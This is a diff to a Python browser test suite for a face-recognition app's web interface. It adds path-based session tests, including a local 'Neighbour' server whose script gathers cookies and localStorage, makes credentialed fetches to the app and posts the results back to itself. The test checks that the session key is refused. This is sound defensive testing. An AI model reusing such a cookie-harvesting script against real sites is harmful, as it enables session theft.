@@ -2,11 +2,16 @@
 
 import json
 import re
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
+from threading import Thread
+from urllib.error import HTTPError
+from urllib.request import Request, urlopen
 
 import pytest
-from broker import eventually
+from broker import authority, eventually, needs_openssl
 from browser import AXE, CHROMIUM, FLAGS, Door, needs_axe, needs_browser
+from page import serving
 
 pytestmark = needs_browser
 VIEWS = {"live": "/", "people": "/people", "visits": "/visits", "unknown": "/unknown", "enrol": "/enrol", "health": "/health"}
@@ -56,6 +61,11 @@ def open_page(door, chromium):
     assert not faults
 
 
+def signed(page, path):
+    """The address of a view in the session that a page has."""
+    return re.match(r"https?://[^/]+/~[^/]+", page.url)[0] + path
+
+
 @pytest.fixture
 def screenshot(request):
     """Takes a picture for the documentation, where ``--screenshots`` says."""
@@ -73,7 +83,7 @@ def test_from_a_stranger_to_a_friend_and_back(door, open_page, screenshot, demo_
     from playwright.sync_api import expect
 
     page = open_page()
-    assert page.url == f"{door.address}/"  # the token is gone from the address
+    assert re.fullmatch(rf"{door.address}/~[\w-]+/", page.url)  # the token is gone from the address
     door.show(demo_photos / "obama_portrait.jpg")
     expect(page.locator(".box").first).to_contain_text(re.compile("Looking|unknown"))
 
@@ -136,7 +146,7 @@ def test_from_a_stranger_to_a_friend_and_back(door, open_page, screenshot, demo_
     expect(page.get_by_role("status").first).to_contain_text("Barack O. is forgotten")
     assert "Barack" not in page.locator("ul.cards").inner_text() if page.locator("ul.cards").count() else True
     for path in VIEWS.values():
-        page.goto(door.address + path)
+        page.goto(signed(page, path))
         assert "Barack" not in page.content(), path
     assert json.loads(door.edgeface("people", "list", "--json").stdout) == {"people": []}
     door.empty()
@@ -151,7 +161,7 @@ def test_a_stranger_is_one_row_and_gets_a_name(door, open_page, screenshot, demo
         door.show(demo_photos / "collins_portrait.jpg")
         assert eventually(lambda count=before: len(unknown(door)) > count, 60)
         door.empty()
-    page.goto(f"{door.address}/unknown")
+    page.goto(signed(page, "/unknown"))
     row = page.locator(".stranger").filter(has_text="2 visits")
     expect(row).to_have_count(1)
     expect(row.locator("img")).to_have_count(2)
@@ -190,7 +200,7 @@ def furnished(door, demo_photos):
 def test_a_view_is_small_and_loads_nothing_from_elsewhere(furnished, open_page, view):
     page, asked = open_page(), []
     page.on("request", lambda request: asked.append(request.url))
-    page.goto(furnished.address + VIEWS[view], wait_until="load")
+    page.goto(signed(page, VIEWS[view]), wait_until="load")
     page.wait_for_timeout(300)
     loaded = page.evaluate(
         "[...performance.getEntriesByType('navigation'), ...performance.getEntriesByType('resource')]"
@@ -208,7 +218,7 @@ def test_a_view_is_small_and_loads_nothing_from_elsewhere(furnished, open_page, 
 def test_axe_finds_nothing_serious(furnished, open_page, scheme, width):
     page = open_page(color_scheme=scheme, viewport={"width": width, "height": 844})
     for view, path in VIEWS.items():
-        page.goto(furnished.address + path)
+        page.goto(signed(page, path))
         if path in ("/", "/enrol"):
             page.locator("[data-picture]").wait_for(state="visible")
         page.evaluate("for (const details of document.querySelectorAll('details')) details.open = true")
@@ -225,7 +235,7 @@ def test_it_is_used_with_keys_alone(furnished, open_page):
     assert page.evaluate("document.activeElement.textContent") == "Skip to the content"
     page.keyboard.press("Enter")
     assert page.evaluate("document.activeElement.id") == "main"
-    page.goto(f"{furnished.address}/people")
+    page.goto(signed(page, "/people"))
     reached = set()
     for _ in range(60):
         page.keyboard.press("Tab")
@@ -246,9 +256,147 @@ def test_it_is_used_with_keys_alone(furnished, open_page):
 def test_nothing_is_cut_off_at_any_width(furnished, open_page, screenshot, suffix, options):
     page = open_page(**options)
     for view, path in VIEWS.items():
-        page.goto(furnished.address + path)
+        page.goto(signed(page, path))
         if path in ("/", "/enrol"):
             page.locator(".box.known").first.wait_for(state="visible")
         assert page.evaluate("document.documentElement.scrollWidth <= document.documentElement.clientWidth"), view
         if view in TAKEN[suffix]:
             screenshot(page, f"{view}{suffix}")
+
+
+# Sessions
+
+
+class Neighbour(BaseHTTPRequestHandler):
+    """Another server at the same host, which keeps what a browser sends it, and has its page try all that a script may."""
+
+    SCRIPT = """<!doctype html><title>Neighbour</title><img src="AT/people"><script>
+    (async () => {
+      const told = { cookie: document.cookie, storage: { ...localStorage }, referrer: document.referrer, read: [] };
+      for (const path of ["/", "/people", "/live/picture", "/static/page.js"])
+        for (const mode of ["cors", "no-cors"])
+          try { told.read.push(await (await fetch("AT" + path, { mode, credentials: "include" })).text()); } catch {}
+      await fetch("/told", { method: "POST", body: JSON.stringify(told) });
+      document.title = "Done";
+    })();
+    </script>"""
+
+    def do_GET(self):
+        self.server.seen.append((self.path, dict(self.headers)))
+        self.send_response(200)
+        self.send_header("content-type", "text/html")
+        self.end_headers()
+        self.wfile.write(self.SCRIPT.replace("AT", self.server.target).encode())
+
+    def do_POST(self):
+        self.server.told.append(json.loads(self.rfile.read(int(self.headers["content-length"]))))
+        self.do_GET()
+
+    def log_message(self, *words):
+        pass
+
+
+@pytest.fixture
+def neighbour(door):
+    with ThreadingHTTPServer(("127.0.0.1", 0), Neighbour) as server:
+        server.seen, server.told, server.target = [], [], door.address
+        Thread(target=server.serve_forever, daemon=True).start()
+        yield server
+        server.shutdown()
+
+
+def test_another_port_of_the_host_gets_nothing_that_opens_the_page(door, open_page, neighbour):
+    from playwright.sync_api import expect
+
+    page = open_page()
+    key = signed(page, "").rpartition("/~")[2]
+    page.goto(signed(page, "/people"))
+    for path in ("/", "/people", "/~x/"):
+        page.evaluate("address => { location.href = address }", f"http://127.0.0.1:{neighbour.server_port}{path}")
+        page.wait_for_function("document.title === 'Done'")
+    told = json.dumps(neighbour.told) + json.dumps(neighbour.seen)
+    assert len(neighbour.told) == 3
+    assert key not in told
+    with pytest.raises(HTTPError) as refused:  # so that the tries below mean something: these are the headers of a browser
+        opened(door.address + "/people", {})
+    assert refused.value.code == 401
+    for path, headers in [*neighbour.seen, ("/people", {"cookie": whole_cookie(page, door)})]:
+        kept = {name: value for name, value in headers.items() if name.lower() != "host"}
+        for tried in {path, *VIEWS.values()}:
+            with pytest.raises(HTTPError) as refused:
+                opened(door.address + tried, kept)
+            assert refused.value.code == 401
+    page.goto(f"{door.address}/people")  # the owner's browser is signed in as before
+    expect(page.get_by_role("heading", name="People")).to_be_visible()
+
+
+def whole_cookie(page, door):
+    """All that a browser has for the page's session, as if another port had been sent it: still not the path."""
+    return "; ".join(f"{cookie['name']}={cookie['value']}" for cookie in page.context.cookies(signed_root(page, door)))
+
+
+def signed_root(page, door):
+    page.goto(f"{door.address}/health")
+    page.wait_for_url("**/~*/health")
+    return page.url
+
+
+def opened(address, headers):
+    with urlopen(Request(address, headers=headers), timeout=30) as answer:
+        return answer.read()
+
+
+def test_a_short_or_an_old_address_leads_to_the_session_until_it_is_ended(door, open_page):
+    from playwright.sync_api import expect
+
+    page, other = open_page(), open_page()
+    for address in ("/people", "/~AAAAAAAAAAAAAAAAAAAAAA/people", "/~AAAA", "/"):
+        page.goto(door.address + address)
+        page.wait_for_url("**/~*/people" if "people" in address else "**/~*/")
+    page.get_by_role("button", name="Sign out").click()
+    expect(page.get_by_role("heading", name="You are signed out")).to_be_visible()
+    for address in ("/people", "/"):
+        page.goto(door.address + address)
+        expect(page.get_by_role("heading", name="This page is locked")).to_be_visible()
+    other.reload()
+    expect(other.get_by_role("button", name="Sign out")).to_be_visible()
+    assert page.evaluate("localStorage.length") == 0
+
+
+def test_without_scripts_it_is_read_changed_and_left(door, open_page, demo_photos):
+    from playwright.sync_api import expect
+
+    door.edgeface("enroll", "Anna", "--image", str(demo_photos / "collins_portrait.jpg"))
+    page = open_page(java_script_enabled=False)
+    for title in ("People", "Unknown", "Enrol", "Health", "Visits"):
+        page.get_by_role("navigation").get_by_role("link", name=title, exact=True).click()
+        expect(page.get_by_role("heading", level=1)).to_contain_text(title)
+    page.get_by_role("button", name="Show").click()
+    expect(page.get_by_role("heading", level=1)).to_contain_text("Visits")
+    page.get_by_role("navigation").get_by_role("link", name="People", exact=True).click()
+    card = page.get_by_role("listitem").filter(has_text="Anna")
+    card.get_by_text("Forget").first.click()
+    card.get_by_role("button", name="Forget Anna for good").click()
+    expect(page.get_by_role("status").first).to_contain_text("Anna is forgotten")
+    page.get_by_role("button", name="Sign out").click()
+    expect(page.get_by_role("heading", name="You are signed out")).to_be_visible()
+    page.go_back()
+    expect(page.get_by_role("heading", name="This page is locked")).to_be_visible()
+
+
+@needs_openssl
+def test_it_is_used_encrypted(chromium, tmp_path):
+    from playwright.sync_api import expect
+
+    keys = authority(tmp_path / "keys")
+    with serving(tmp_path, tls_cert=str(keys / "server.pem"), tls_key=str(keys / "server.key")) as served:
+        context = chromium.new_context(ignore_https_errors=True)
+        page = context.new_page()
+        page.goto(f"https://127.0.0.1:{served.port}/?token={served.token.text()}")
+        page.get_by_role("link", name="People").click()
+        expect(page.get_by_role("heading", name="People")).to_be_visible()
+        (cookie,) = context.cookies()
+        assert (cookie["name"], cookie["secure"], cookie["path"]) == (f"__Host-edgeface-{served.port}", True, "/")
+        page.get_by_role("button", name="Sign out").click()
+        expect(page.get_by_role("heading", name="You are signed out")).to_be_visible()
+        context.close()
